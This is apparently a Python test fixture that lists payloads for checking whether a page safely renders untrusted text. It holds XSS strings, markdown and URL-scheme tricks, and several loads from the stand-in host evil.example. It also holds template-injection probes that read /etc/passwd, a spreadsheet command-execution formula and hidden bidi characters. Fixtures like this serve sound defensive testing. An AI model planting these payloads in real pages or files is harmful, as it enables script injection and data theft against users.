"""Texts that would do something in a page that let them.

Whatever gets through is seen: a dialog, a request to `evil.example`, a window, or `pwned` in the page.
"""

PAYLOADS = (
    "<script>alert(1)</script>",
    "</title><script>pwned = 1; alert(1)</script>",
    "</style><script>alert(1)</script><style>",
    "--></textarea></noscript></template></svg><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script href=http://evil.example/s.js></script></svg>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>parent.pwned = 1</script>'></iframe>",
    "<iframe src=http://evil.example/f></iframe>",
    "<object data=http://evil.example/o></object><embed src=http://evil.example/e>",
    "<link rel=stylesheet href=http://evil.example/l.css><link rel=prefetch href=http://evil.example/p>",
    "<style>@import 'http://evil.example/i.css'; * { background: url(http://evil.example/b) }</style>",
    "<meta http-equiv=refresh content='0; url=http://evil.example/m'>",
    "<base href=http://evil.example/>",
    "<form action=http://evil.example/ id=f></form><input autofocus onfocus=alert(1) form=f>",
    "<video poster=http://evil.example/v autoplay onloadstart=alert(1)><source src=http://evil.example/w></video>",
    "<details open ontoggle=alert(1)>",
    "<dialog open><form method=dialog></form></dialog>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<p style='background: url(http://evil.example/st); position: fixed; inset: 0'>",
    '" autofocus tabindex=1 onfocus=alert(1) x="',
    "' autofocus tabindex=1 onfocus=alert(1) x='",
    '"><script>alert(1)</script>',
    '" style="background: url(http://evil.example/a)',
    "` onmouseover=alert(1) `",
    "javascript:alert(1)",
    "[klik](javascript:alert(1)) [klik](JaVaScRiPt&colon;alert(1)) [klik](java&Tab;script:alert(1))",
    "[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [klik](vbscript:alert(1))",
    '[klik](http://evil.example/ "\\" onmouseover=alert(1) x=\\"") <javascript:alert(1)>',
    "![beeld](http://evil.example/p.png) ![beeld](http://evil.example/p.svg#x) ![x][r]\n\n[r]: http://evil.example/r.png",
    '![x](data:image/svg+xml,<svg/onload=alert(1)>) ![x"onerror="alert(1)](x)',
    "{{ 7*191 }} {% raw %} {# x #} ${7*191} #{7*191} {{ ''.__class__.__mro__ }} {% include '/etc/passwd' %}",
    "=cmd|' /C calc'!A0 =HYPERLINK('http://evil.example/','x')",
    "\u202egnitirw desrever\u202c \u2066verborgen\u2069 \u200bniets \u200e \u200f \u061c \ufeff \x07",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;alert(1)&#60;/script&#62; \\<script>alert(1)</script>",
)
TEXT = " ".join(PAYLOADS)
PROSE = "\n\n".join(PAYLOADS)
HIDDEN = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200b\u200e\u200f\u061c\ufeff\x07"
